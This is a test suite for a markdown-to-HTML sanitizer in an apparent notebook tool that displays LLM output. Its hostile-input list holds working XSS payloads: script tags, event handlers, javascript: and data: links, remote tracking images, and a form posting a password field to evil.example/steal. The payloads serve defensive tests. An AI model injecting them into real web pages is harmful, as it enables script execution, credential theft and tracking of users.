"""Sanitized markdown → HTML: LLM text is hostile input and trusted output runs scripts."""

from __future__ import annotations

import re
import subprocess
import sys
import time
from html.parser import HTMLParser
from pathlib import Path

import pytest

from llm_notebook import render as render_module
from llm_notebook.render import escape_text_html, footer_html, markdown_to_html

ALLOWED_TAGS = {
    "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "s", "del", "code",
    "pre", "blockquote", "ul", "ol", "li", "a", "table", "thead", "tbody", "tr", "th", "td",
    "span", "div",
}  # fmt: skip
SAFE_HREF = re.compile(r"(?:https?|mailto):", re.IGNORECASE)


class _Collect(HTMLParser):
    """Every real tag with its attributes, and the visible text (entities decoded)."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)

    def handle_comment(self, data):
        self.tags.append(("!--", {"data": data}))

    def handle_decl(self, decl):
        self.tags.append(("!decl", {"data": decl}))

    def unknown_decl(self, data):
        self.tags.append(("!unknown", {"data": data}))

    def handle_pi(self, data):
        self.tags.append(("?pi", {"data": data}))


def parse_html(html: str) -> _Collect:
    collector = _Collect()
    collector.feed(html)
    collector.close()
    return collector


def assert_safe(html: str) -> str:
    """Fail on anything that could run code or load a resource; return the visible text."""
    lowered = html.lower()
    assert "<script" not in lowered
    assert "<iframe" not in lowered and "<img" not in lowered and "<svg" not in lowered
    # Inside real tags (escaped text has &lt; instead of <, and quoted attribute values are
    # blanked out first): no event handlers and nothing that loads a resource.
    tags = re.sub(r'"[^"]*"', '""', " ".join(re.findall(r"<[a-zA-Z][^>]*>", html)))
    assert not re.search(r"\son\w+\s*=", tags, re.IGNORECASE), tags
    assert not re.search(
        r"\s(?:src|srcset|srcdoc|action|formaction|background)\s*=", tags, re.IGNORECASE
    )
    parsed = parse_html(html)
    for tag, attrs in parsed.tags:
        assert tag in ALLOWED_TAGS, f"unexpected tag <{tag}> in {html[:300]!r}"
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name)
            assert name not in {"src", "srcset", "srcdoc", "action", "formaction", "background"}
            if name == "href":
                assert SAFE_HREF.match(value or ""), (tag, value)
            if name == "style":
                allowed = r"text-align:(left|right|center)"
                if tag == "pre" and attrs.get("class") == "llm-nb-text":  # our plain-text fallback
                    allowed = r"white-space: pre-wrap; overflow-wrap: anywhere;"
                assert re.fullmatch(allowed, value or ""), value
            if name == "class":
                assert re.fullmatch(r"language-[\w+#.-]+|llm-nb-[a-z-]+", value or ""), value
        if tag == "a":
            assert attrs.get("rel") == "noopener noreferrer" and attrs.get("target") == "_blank"
    return "".join(parsed.text)


HOSTILE = [
    # (markdown source, text that must stay visible)
    ("<script>alert(1)</script>", "<script>alert(1)</script>"),
    (
        "Hi <script src=https://evil.example/x.js></script>",
        "<script src=https://evil.example/x.js>",
    ),
    ("<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>"),
    ('<p onclick="alert(1)">click</p>', '<p onclick="alert(1)">'),
    ("<div onmouseover='alert(1)'>hover</div>", "onmouseover='alert(1)'"),
    ("<body onload=alert(1)>", "<body onload=alert(1)>"),
    ("[click](javascript:alert(1))", "[click](javascript:alert(1))"),
    ("[click](JaVaScRiPt:alert(1))", "JaVaScRiPt:alert(1)"),
    ("[click](&#106;avascript:alert(1))", "avascript:alert(1)"),
    ("[click](java&#x09;script:alert(1))", "script:alert(1)"),
    ("[click]( javascript:alert(1) )", "javascript:alert(1)"),
    ("<javascript:alert(1)>", "<javascript:alert(1)>"),
    ("[x][r]\n\n[r]: javascript:alert(1)", "[r]: javascript:alert(1)"),
    ("[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "data:text/html"),
    ("[vb](vbscript:msgbox(1))", "vbscript:msgbox(1)"),
    ("[file](file:///etc/passwd)", "file:///etc/passwd"),
    ("[rel](/api/contents/secret)", "/api/contents/secret"),
    ("[proto](//evil.example/x)", "//evil.example/x"),
    ('<a href="javascript:alert(1)">html link</a>', '<a href="javascript:alert(1)">'),
    ('<a href="data:text/html,<script>alert(1)</script>">d</a>', "data:text/html"),
    (
        "![tracker](https://evil.example/pixel.png)",
        "[image: tracker — https://evil.example/pixel.png]",
    ),
    ("![](http://evil.example/a.png)", "[image: http://evil.example/a.png]"),
    ("![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", "data:image/svg+xml"),
    (
        "![ref][pic]\n\n[pic]: https://evil.example/ref.png",
        "[image: ref — https://evil.example/ref.png]",
    ),
    (
        "[![inner](https://evil.example/i.png)](https://ok.example/)",
        "[image: inner — https://evil.example/i.png]",
    ),
    ('<img src="https://evil.example/remote.png">', '<img src="https://evil.example/remote.png">'),
    ("<img srcset='https://evil.example/a.png 1x'>", "srcset="),
    (
        '<div style="background-image:url(https://evil.example/bg.png)">x</div>',
        "background-image:url(",
    ),
    (
        "<style>body{background:url(https://evil.example/s.png)}</style>",
        "<style>body{background:url(",
    ),
    ('<table background="https://evil.example/t.png"><tr><td>x</td></tr></table>', 'background="'),
    (
        '<form action="https://evil.example/steal"><input name="pw"><button>go</button></form>',
        '<form action="https://evil.example/steal">',
    ),
    ('<button formaction="javascript:alert(1)">x</button>', 'formaction="javascript:alert(1)"'),
    ("<svg><script>alert(1)</script></svg>", "<svg><script>alert(1)</script></svg>"),
    ("<svg onload=alert(1)>", "<svg onload=alert(1)>"),
    ('<math><mi xlink:href="javascript:alert(1)">x</mi></math>', "xlink:href="),
    (
        '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
        "<iframe src=",
    ),
    ('<object data="https://evil.example/x.swf"></object><embed src="x">', "<object data="),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example">', "http-equiv"),
    ('<base href="https://evil.example/">', '<base href="https://evil.example/">'),
    ('<link rel="stylesheet" href="https://evil.example/x.css">', "<link rel="),
    ("<!-- <script>alert(1)</script> -->", "<!-- <script>alert(1)</script> -->"),
    ("<![CDATA[<script>alert(1)</script>]]>", "<![CDATA["),
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "<noscript>"),
    (
        "| a | <script>alert(1)</script> |\n|---|---|\n| <img src=x onerror=alert(1)> | 2 |",
        "<img src=x onerror=alert(1)>",
    ),
    ("```\n</code></pre><script>alert(1)</script>\n```", "</code></pre><script>alert(1)</script>"),
    ('```js" onmouseover="alert(1)\ncode\n```', "code"),
    ('[t](https://ok.example "a\\" onmouseover=\\"alert(1)")', "t"),
    ('[q](https://ok.example/"onmouseover="alert(1))', "q"),
    ("`<script>alert(1)</script>`", "<script>alert(1)</script>"),
    ("**<b onclick=alert(1)>bold</b>**", "<b onclick=alert(1)>"),
    ("> <script>alert(1)</script>", "<script>alert(1)</script>"),
    ("- <img src=x onerror=alert(1)>\n- two", "<img src=x onerror=alert(1)>"),
    ("&lt;script&gt;alert(1)&lt;/script&gt;", "<script>alert(1)</script>"),
    ("&#60;script&#62;alert(1)&#60;/script&#62;", "<script>alert(1)</script>"),
]


@pytest.mark.parametrize("source, visible", HOSTILE, ids=[f"h{i}" for i in range(len(HOSTILE))])
def test_hostile_markdown_is_neutralized_and_stays_visible(source, visible):
    html = markdown_to_html(source)
    text = assert_safe(html)
    assert visible in text, (html, text)


def test_no_javascript_href_anywhere_in_the_corpus():
    html = markdown_to_html("\n\n".join(source for source, _ in HOSTILE))
    assert_safe(html)
    for _tag, attrs in parse_html(html).tags:
        assert "javascript" not in (attrs.get("href") or "").lower()


def test_safe_links_are_kept_with_rel_and_target():
    html = markdown_to_html(
        "[site](https://example.com/a?b=1&c=2) <http://example.org> [mail](mailto:a@example.com)"
    )
    assert_safe(html)
    hrefs = [attrs["href"] for tag, attrs in parse_html(html).tags if tag == "a"]
    assert hrefs == ["https://example.com/a?b=1&c=2", "http://example.org", "mailto:a@example.com"]
    assert html.count('rel="noopener noreferrer"') == 3 and html.count('target="_blank"') == 3


def test_raw_html_is_escaped_not_dropped():
    html = markdown_to_html("before <b>bold?</b> after")
    assert "&lt;b&gt;bold?&lt;/b&gt;" in html
    assert "<b>" not in html


def test_tables_render_with_alignment():
    html = markdown_to_html("| name | n |\n|:-----|--:|\n| a | 1 |\n| b | 22 |")
    assert_safe(html)
    assert "<table>" in html and "<thead>" in html and "<tbody>" in html
    assert '<th style="text-align:left">name</th>' in html
    assert '<td style="text-align:right">22</td>' in html


def test_code_fences_render_escaped_with_language_class():
    html = markdown_to_html('```python\nif a < b and c > d:\n    print("<hi>")\n```')
    assert_safe(html)
    assert '<pre><code class="language-python">' in html
    assert "if a &lt; b and c &gt; d:" in html
    assert "&lt;hi&gt;" in html


def test_unsafe_fence_language_is_dropped():
    html = markdown_to_html('```py" onclick="x\ncode\n```')
    assert_safe(html)
    assert "<pre><code>code" in html


def test_common_markdown_renders():
    html = markdown_to_html(
        "# Title\n\nSome **bold**, *em*, ~~gone~~ and `code`.\n\n"
        "1. one\n2. two\n\n- a\n- b\n\n> quote\n\n---\n\n    indented code\n"
    )
    assert_safe(html)
    for fragment in ["<h1>Title</h1>", "<strong>bold</strong>", "<em>em</em>", "<s>gone</s>",
                     "<code>code</code>", "<ol>", "<ul>", "<blockquote>", "<hr>",
                     "<pre><code>indented code"]:  # fmt: skip
        assert fragment in html, fragment


def test_ordered_list_start_is_kept():
    assert '<ol start="3">' in markdown_to_html("3. three\n4. four")


def test_non_str_input():
    assert markdown_to_html(None) == ""  # type: ignore[arg-type]
    assert "42" in markdown_to_html(42)  # type: ignore[arg-type]


# --- size and time ---------------------------------------------------------------------------


def _realistic_answer() -> str:
    return (
        "## Reshaping\n\nPandas has **pivot**, *melt* and `stack`. See the "
        "[docs](https://pandas.pydata.org/docs/).\n\n"
        "1. pivot: long to wide\n2. melt: wide to long\n\n"
        "```python\nimport pandas as pd\n\n\ndef f(df):\n    return df.melt()\n```\n\n"
        "| method | direction |\n|---|---|\n| pivot | long → wide |\n\n"
        "> Note: use pivot_table for duplicates.\n\n"
        "- one\n- two\n\nA longer paragraph of plain prose that wraps like an LLM answer does, "
        "with some words and more words to make it realistic.\n\n"
    )


def test_large_realistic_markdown_is_cut_only_between_blocks():
    answer = _realistic_answer()
    doc = answer * (300_000 // len(answer) + 1)  # several chunks, well inside the time budget
    html = markdown_to_html(doc)
    assert_safe(html)
    # Every fence (with blank lines and unindented lines inside), table and list survives whole.
    copies = doc.count("## Reshaping")
    assert html.count('<pre><code class="language-python">') == copies
    assert html.count("<table>") == copies
    assert html.count("<ol>") == copies
    assert html.count("<h2>Reshaping</h2>") == copies
    assert "```" not in html and "llm-nb-note" not in html


def test_one_megabyte_of_markdown_renders_quickly():
    answer = _realistic_answer()
    doc = answer * (1_000_000 // len(answer) + 1)
    started = time.perf_counter()
    html = markdown_to_html(doc)
    elapsed = time.perf_counter() - started
    text = assert_safe(html)
    assert elapsed < 5, f"1 MB took {elapsed:.2f} s"
    assert html.startswith("<h2>Reshaping</h2>")
    assert text.count("long to wide") == doc.count("long to wide")  # all of it is visible


def test_one_megabyte_hostile_corpus():
    corpus = "\n\n".join(source for source, _ in HOSTILE) + "\n\n"
    doc = corpus * (1_000_000 // len(corpus) + 1)
    started = time.perf_counter()
    html = markdown_to_html(doc)
    elapsed = time.perf_counter() - started
    text = assert_safe(html)
    assert elapsed < 10, f"1 MB hostile took {elapsed:.2f} s"
    assert "<script>alert(1)</script>" in text


def test_200_kb_single_line():
    line = "word *em* [ok](https://example.com) <img src=x onerror=alert(1)> " * 3200
    assert len(line) > 200_000
    started = time.perf_counter()
    html = markdown_to_html(line)
    elapsed = time.perf_counter() - started
    text = assert_safe(html)
    assert elapsed < 5, f"200 KB line took {elapsed:.2f} s"
    # Cut at spaces into pieces small enough to parse quickly; all of it stays visible.
    assert text.count("onerror=alert(1)>") == 3200


@pytest.mark.parametrize(
    "unit", ["[", "![", "*a", "x\n", "# h\n", "~~a", "<http://a.b/c> ", "- a\n", "`a"]
)
def test_pathological_megabyte_is_bounded_and_stays_visible(unit, monkeypatch):
    # A short budget keeps the suite quick; the mechanism is the same at the default budget
    # (test_one_megabyte_hostile_corpus runs with it).
    monkeypatch.setattr(render_module, "_WORK_BUDGET", 300_000)
    doc = unit * (1_000_000 // len(unit))
    started = time.perf_counter()
    html = markdown_to_html(doc)
    elapsed = time.perf_counter() - started
    assert_safe(html)
    assert elapsed < 10, f"{unit!r} × 1 MB took {elapsed:.2f} s"
    # Whatever was not formatted in time is still there, as escaped plain text.
    if "llm-nb-note" in html:
        assert '<pre class="llm-nb-text"' in html


def test_budget_exhausted_rest_is_plain_escaped_text(monkeypatch):
    monkeypatch.setattr(render_module, "_WORK_BUDGET", 0)
    doc = "**first** chunk\n\n" + ("<script>alert(1)</script> filler\n\n" * 5000)
    html = markdown_to_html(doc)
    text = assert_safe(html)
    assert "too long to format" in html
    assert text.count("<script>alert(1)</script>") == 5000


# --- chunking large input ------------------------------------------------------------------


def test_chunks_are_lossless_and_bounded():
    parts = []
    for i in range(3000):
        parts.append(f"Paragraph {i} with some words.\n\n- item\n  continued\n- item\n\n")
        if i % 500 == 0:
            parts.append("x" * 150_000 + "\n")  # a giant line
            parts.append("y " * 80_000 + "\n")
    text = "".join(parts)
    chunks = list(render_module._chunks(text))
    assert "".join(chunk for _, chunk in chunks) == text
    assert all(text.startswith(chunk, offset) for offset, chunk in chunks)
    assert max(len(chunk) for _, chunk in chunks) <= render_module._CHUNK_HARD


def test_chunks_never_cut_inside_a_fence_at_a_blank_line():
    block = "```python\nimport os\n\ndef f():\n    pass\n\nclass C:\n    pass\n```\n\nText.\n\n"
    text = block * 2000
    for _offset, chunk in render_module._chunks(text):
        assert chunk.count("```") % 2 == 0
    html = markdown_to_html(text)
    assert html.count('<pre><code class="language-python">') == 2000


def test_giant_fence_is_closed_and_reopened_across_chunks():
    text = "```python\n" + "x = 1\n" * 40_000 + "```\nafter\n"
    chunks = [chunk for _, chunk in render_module._chunks(text)]
    assert len(chunks) > 1
    assert all(chunk.startswith("```python\n") for chunk in chunks)
    html = markdown_to_html(text)
    assert_safe(html)
    assert html.count('<pre><code class="language-python">') == len(chunks)
    assert "```" not in html and "<p>after</p>" in html


def test_giant_line_inside_a_fence_stays_code():
    text = "```text\n" + "<script>alert(1)</script>" * 10_000 + "\n```\nafter\n"
    html = markdown_to_html(text)
    text_shown = assert_safe(html)
    assert html.count('<pre><code class="language-text">') >= 4
    assert text_shown.count("<script>alert(1)</script>") == 10_000
    assert "```" not in html and "<p>after</p>" in html


def test_reference_definitions_carry_across_chunks():
    text = "[r]: https://example.com/ref\n\n" + "filler paragraph.\n\n" * 10_000 + "see [it][r]\n"
    html = markdown_to_html(text)
    assert '<a href="https://example.com/ref"' in html


# --- text output and footer ------------------------------------------------------------------


def test_escape_text_html():
    html = escape_text_html('<script>alert("x")</script> & stuff\n  indented')
    assert html.startswith("<pre") and html.endswith("</pre>")
    assert "<script" not in html
    assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; stuff\n  indented" in html
    assert "white-space: pre-wrap" in html
    assert escape_text_html(None).endswith("></pre>")  # type: ignore[arg-type]


def test_footer_html_joins_escapes_and_skips_empty_parts():
    html = footer_html(["gpt-4o-mini", "12+30 tokens", "", None, "$0.0001", "1.2 s"])
    assert "gpt-4o-mini · 12+30 tokens · $0.0001 · 1.2 s" in html
    assert html.startswith('<div class="llm-nb-footer"')
    hostile = footer_html(["<img src=x onerror=alert(1)>"])
    assert "<img" not in hostile and "&lt;img src=x onerror=alert(1)&gt;" in hostile
    assert footer_html([]) == "" and footer_html(["", None]) == ""


# --- import cost ---------------------------------------------------------------------------


def test_importing_render_does_not_import_markdown_it_or_nh3():
    path = Path(render_module.__file__)
    code = (
        "import importlib.util, sys\n"
        f"spec = importlib.util.spec_from_file_location('render_probe', {str(path)!r})\n"
        "module = importlib.util.module_from_spec(spec); spec.loader.exec_module(module)\n"
        "assert 'markdown_it' not in sys.modules and 'nh3' not in sys.modules\n"
    )
    subprocess.run([sys.executable, "-c", code], check=True, timeout=60)
